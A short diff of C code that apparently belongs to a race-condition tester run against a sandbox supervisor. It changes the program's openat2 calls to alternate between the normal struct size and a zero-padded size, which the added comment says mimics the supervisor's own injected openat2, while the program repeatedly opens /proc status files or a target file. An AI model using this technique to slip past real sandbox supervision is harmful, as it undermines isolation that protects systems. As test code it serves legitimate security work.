@@ -47,7 +47,13 @@ static struct shared {
 static atomic_int stop;
 static pid_t owner; /* the process that listens on race/d/s */
 static dev_t procdev; /* the device of /proc */
-static struct open_how flip_how;
+/* open_how with a zeroed tail: every other openat2 passes size 88, the
+ * size whose bit 64 the supervisor's own injected openat2 uses */
+static struct {
+	struct open_how h;
+	unsigned char zero[64];
+} flip_buf;
+#define flip_how flip_buf.h
 
 static bool is(const char *m)
 {
@@ -197,7 +203,9 @@ static bool one_try(const char *base, int dfd)
 			snprintf(path, sizeof(path), "/proc/%ld/status", pid);
 		else
 			snprintf(path, sizeof(path), "%s/f", target);
-		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &flip_how, sizeof(flip_how));
+		static unsigned k;
+		size_t size = (k++ & 1) ? sizeof(flip_buf) : sizeof(flip_how);
+		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &flip_buf, size);
 		bool h = fd >= 0 && (at_proc || hit_fd(fd));
 		if (fd >= 0)
 			close(fd);
